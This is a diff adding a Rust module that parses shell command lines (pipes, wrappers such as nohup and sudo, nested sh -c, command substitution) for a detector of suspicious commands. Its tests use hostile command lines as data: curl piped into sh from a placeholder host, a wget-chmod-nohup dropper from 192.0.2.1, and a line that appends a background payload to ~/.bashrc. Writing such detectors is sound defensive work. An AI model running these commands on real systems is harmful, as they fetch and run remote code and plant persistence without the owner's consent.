@@ -1,0 +1,347 @@
+//! Shell command lines: the strings handed to `os.system`, `subprocess`, `child_process`,
+//! Ruby backticks and npm scripts.
+//!
+//! A small real parser (quotes, escapes, `;` `&&` `||` `|` `&`, redirections, `$(...)`,
+//! backticks, `sh -c '...'`) rather than regexes, so `curl x|sh` and `curl "x" | sh` read
+//! the same. Wrappers (`nohup`, `sudo`, `setsid`, ...) yield both the wrapper and the
+//! wrapped command, so a detector can ask either.
+
+/// One simple command of a command line.
+#[derive(Debug, Clone, PartialEq, Default)]
+pub struct ShellCmd {
+    /// The program as written (`./x`, `/usr/bin/curl`, `curl`).
+    pub program: String,
+    pub args: Vec<String>,
+    /// Ends with `&`: runs in the background.
+    pub background: bool,
+    /// The program this command's output is piped into, if any.
+    pub pipe_to: Option<String>,
+    /// Output redirections: (`>` or `>>`, target).
+    pub redirects: Vec<(String, String)>,
+}
+
+impl ShellCmd {
+    /// The program's base name (`/usr/bin/curl` -> `curl`), used to look it up.
+    pub fn name(&self) -> &str {
+        let p = self.program.rsplit(['/', '\\']).next().unwrap_or(&self.program);
+        p.strip_suffix(".exe").unwrap_or(p)
+    }
+}
+
+/// Commands that run the rest of their arguments as another command.
+const WRAPPERS: &[&str] = &["nohup", "sudo", "setsid", "exec", "env", "timeout", "nice", "xargs", "command", "doas", "time"];
+/// Shells whose `-c` argument is itself a command line.
+const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh"];
+/// Nested command lines deeper than this are not followed (`sh -c "sh -c ..."`).
+const MAX_NESTING: usize = 8;
+
+/// Parses a command line into its simple commands, in order.
+pub fn parse(line: &str) -> Vec<ShellCmd> {
+    let mut out = Vec::new();
+    parse_into(line, 0, &mut out);
+    out
+}
+
+#[derive(Debug, PartialEq)]
+enum Tok {
+    Word(String),
+    Op(&'static str),
+}
+
+fn parse_into(line: &str, nesting: usize, out: &mut Vec<ShellCmd>) {
+    if nesting > MAX_NESTING {
+        return;
+    }
+    let mut nested = Vec::new();
+    let toks = lex(line, &mut nested);
+    for inner in nested {
+        parse_into(&inner, nesting + 1, out);
+    }
+    let mut cur = ShellCmd::default();
+    let mut words: Vec<String> = Vec::new();
+    let mut pending_redirect: Option<&'static str> = None;
+    let mut pipeline_start = out.len();
+    let flush = |words: &mut Vec<String>, cur: &mut ShellCmd, out: &mut Vec<ShellCmd>| {
+        let mut w = std::mem::take(words);
+        // Leading `VAR=value` assignments are not the program.
+        while w.first().is_some_and(|x| is_assignment(x)) {
+            w.remove(0);
+        }
+        if w.is_empty() {
+            *cur = ShellCmd::default();
+            return;
+        }
+        let mut cmd = std::mem::take(cur);
+        cmd.program = w.remove(0);
+        cmd.args = w;
+        expand(cmd, nesting, out);
+    };
+    for t in toks {
+        match t {
+            Tok::Word(w) => match pending_redirect.take() {
+                Some(op) => cur.redirects.push((op.to_string(), w)),
+                None => words.push(w),
+            },
+            Tok::Op(op @ (">" | ">>")) => pending_redirect = Some(op),
+            Tok::Op("<") => pending_redirect = Some("<"),
+            Tok::Op(op) => {
+                let before = out.len();
+                flush(&mut words, &mut cur, out);
+                if op == "&" {
+                    for c in &mut out[before..] {
+                        c.background = true;
+                    }
+                    for c in &mut out[pipeline_start..before] {
+                        c.background = true;
+                    }
+                }
+                if op == "|" {
+                    // Remember where this pipeline's left side ends; the next command is its sink.
+                    if let Some(next) = out.len().checked_sub(1) {
+                        out[next].pipe_to = Some(String::new());
+                    }
+                } else {
+                    pipeline_start = out.len();
+                }
+            }
+        }
+    }
+    flush(&mut words, &mut cur, out);
+    // Fill in pipe targets now that every command is known.
+    for i in 0..out.len() {
+        if out[i].pipe_to.as_deref() == Some("") {
+            let next = out[i + 1..].iter().find(|c| !WRAPPERS.contains(&c.name())).map(|c| c.name().to_string());
+            out[i].pipe_to = next;
+        }
+    }
+    out.retain(|c| c.redirects.iter().all(|(op, _)| op != "<") || !c.program.is_empty());
+}
+
+/// Adds `cmd`, then what it wraps: `nohup x &` also yields `x &`, `sh -c 'y'` yields `y`.
+fn expand(cmd: ShellCmd, nesting: usize, out: &mut Vec<ShellCmd>) {
+    let name = cmd.name().to_string();
+    let inner_line = if SHELLS.contains(&name.as_str()) || name == "powershell" || name == "pwsh" || name == "cmd" {
+        cmd.args
+            .iter()
+            .position(|a| matches!(a.as_str(), "-c" | "/c" | "/C" | "-Command" | "-command"))
+            .and_then(|i| cmd.args.get(i + 1).cloned())
+    } else {
+        None
+    };
+    let wrapped = WRAPPERS.contains(&name.as_str()).then(|| {
+        let skip = cmd.args.iter().take_while(|a| a.starts_with('-') || is_assignment(a)).count();
+        let skip = if name == "timeout" { skip + 1 } else { skip };
+        cmd.args[skip.min(cmd.args.len())..].to_vec()
+    });
+    let (background, redirects) = (cmd.background, cmd.redirects.clone());
+    out.push(cmd);
+    if let Some(line) = inner_line {
+        let before = out.len();
+        parse_into(&line, nesting + 1, out);
+        for c in &mut out[before..] {
+            c.background |= background;
+        }
+    }
+    if let Some(mut w) = wrapped.filter(|w| !w.is_empty()) {
+        let program = w.remove(0);
+        expand(ShellCmd { program, args: w, background, pipe_to: None, redirects }, nesting + 1, out);
+    }
+}
+
+fn is_assignment(word: &str) -> bool {
+    match word.split_once('=') {
+        Some((name, _)) => !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'),
+        None => false,
+    }
+}
+
+/// Splits a command line into words and operators. Command substitutions (`$(...)`,
+/// backticks) are collected into `nested` and also left in the word as text.
+fn lex(line: &str, nested: &mut Vec<String>) -> Vec<Tok> {
+    let mut toks = Vec::new();
+    let mut word = String::new();
+    let mut in_word = false;
+    let chars: Vec<char> = line.chars().collect();
+    let mut i = 0;
+    let end_word = |word: &mut String, in_word: &mut bool, toks: &mut Vec<Tok>| {
+        if *in_word {
+            toks.push(Tok::Word(std::mem::take(word)));
+            *in_word = false;
+        }
+    };
+    while i < chars.len() {
+        let c = chars[i];
+        match c {
+            ' ' | '\t' | '\r' => end_word(&mut word, &mut in_word, &mut toks),
+            '\n' | ';' => {
+                end_word(&mut word, &mut in_word, &mut toks);
+                toks.push(Tok::Op(";"));
+            }
+            '#' if !in_word => {
+                while i < chars.len() && chars[i] != '\n' {
+                    i += 1;
+                }
+                continue;
+            }
+            '&' | '|' => {
+                end_word(&mut word, &mut in_word, &mut toks);
+                let double = chars.get(i + 1) == Some(&c);
+                if c == '&' && chars.get(i + 1) == Some(&'>') {
+                    i += 1; // `&>` redirects both streams
+                    toks.push(Tok::Op(">"));
+                } else if double {
+                    i += 1;
+                    toks.push(Tok::Op(";"));
+                } else {
+                    toks.push(Tok::Op(if c == '&' { "&" } else { "|" }));
+                }
+            }
+            '>' | '<' => {
+                // `2>&1` and `>&2` are stream plumbing, not files.
+                let fd_dup = chars.get(i + 1) == Some(&'&');
+                if in_word && word.chars().all(|d| d.is_ascii_digit()) {
+                    word.clear();
+                    in_word = false;
+                }
+                end_word(&mut word, &mut in_word, &mut toks);
+                if fd_dup {
+                    i += 2;
+                    while i < chars.len() && (chars[i].is_ascii_digit() || chars[i] == '-') {
+                        i += 1;
+                    }
+                    continue;
+                }
+                if c == '>' && chars.get(i + 1) == Some(&'>') {
+                    i += 1;
+                    toks.push(Tok::Op(">>"));
+                } else {
+                    toks.push(Tok::Op(if c == '>' { ">" } else { "<" }));
+                }
+            }
+            '(' | ')' if !in_word => {
+                end_word(&mut word, &mut in_word, &mut toks);
+                toks.push(Tok::Op(";"));
+            }
+            '\'' => {
+                in_word = true;
+                i += 1;
+                while i < chars.len() && chars[i] != '\'' {
+                    word.push(chars[i]);
+                    i += 1;
+                }
+            }
+            '"' => {
+                in_word = true;
+                i += 1;
+                while i < chars.len() && chars[i] != '"' {
+                    if chars[i] == '\\' && i + 1 < chars.len() {
+                        i += 1;
+                    }
+                    if chars[i] == '$' && chars.get(i + 1) == Some(&'(') {
+                        let (inner, next) = balanced(&chars, i + 2);
+                        nested.push(inner.clone());
+                        word.push_str(&format!("$({inner})"));
+                        i = next;
+                        continue;
+                    }
+                    word.push(chars[i]);
+                    i += 1;
+                }
+            }
+            '`' => {
+                in_word = true;
+                let start = i + 1;
+                i += 1;
+                while i < chars.len() && chars[i] != '`' {
+                    i += 1;
+                }
+                let inner: String = chars[start..i.min(chars.len())].iter().collect();
+                word.push_str(&inner);
+                nested.push(inner);
+            }
+            '$' if chars.get(i + 1) == Some(&'(') => {
+                in_word = true;
+                let (inner, next) = balanced(&chars, i + 2);
+                nested.push(inner.clone());
+                word.push_str(&format!("$({inner})"));
+                i = next;
+                continue;
+            }
+            '\\' => {
+                in_word = true;
+                if let Some(n) = chars.get(i + 1) {
+                    if *n != '\n' {
+                        word.push(*n);
+                    }
+                    i += 1;
+                }
+            }
+            _ => {
+                in_word = true;
+                word.push(c);
+            }
+        }
+        i += 1;
+    }
+    end_word(&mut word, &mut in_word, &mut toks);
+    toks
+}
+
+/// The text up to the `)` matching an opening already consumed; returns it and the index after.
+fn balanced(chars: &[char], mut i: usize) -> (String, usize) {
+    let start = i;
+    let mut depth = 1;
+    while i < chars.len() {
+        match chars[i] {
+            '(' => depth += 1,
+            ')' => {
+                depth -= 1;
+                if depth == 0 {
+                    return (chars[start..i].iter().collect(), i + 1);
+                }
+            }
+            _ => {}
+        }
+        i += 1;
+    }
+    (chars[start..].iter().collect(), chars.len())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn names(line: &str) -> Vec<String> {
+        parse(line).iter().map(|c| c.name().to_string()).collect()
+    }
+
+    #[test]
+    fn pipes_into_a_shell() {
+        let cmds = parse("curl -fsSL http://x.invalid/i.sh|sh");
+        assert_eq!(cmds[0].name(), "curl");
+        assert_eq!(cmds[0].pipe_to.as_deref(), Some("sh"));
+    }
+
+    #[test]
+    fn dropper_line_with_background_and_redirect() {
+        let cmds = parse("wget -q http://192.0.2.1/x -O ~/.x && chmod +x ~/.x; nohup ~/.x >/dev/null 2>&1 &");
+        assert_eq!(names("wget a && chmod +x b; nohup c &"), ["wget", "chmod", "nohup", "c"]);
+        let run = cmds.iter().find(|c| c.program == "~/.x").unwrap();
+        assert!(run.background);
+        assert_eq!(run.redirects, vec![(">".to_string(), "/dev/null".to_string())]);
+    }
+
+    #[test]
+    fn nested_shells_and_substitutions() {
+        assert_eq!(names("bash -c 'curl http://x.invalid | bash'"), ["bash", "curl", "bash"]);
+        assert!(names("echo $(whoami)").contains(&"whoami".to_string()));
+        assert!(names("echo `hostname`").contains(&"hostname".to_string()));
+    }
+
+    #[test]
+    fn append_to_rc_file() {
+        let cmds = parse("echo 'python3 ~/.x &' >> ~/.bashrc");
+        assert_eq!(cmds[0].redirects, vec![(">>".to_string(), "~/.bashrc".to_string())]);
+        assert!(!cmds[0].background);
+    }
+}
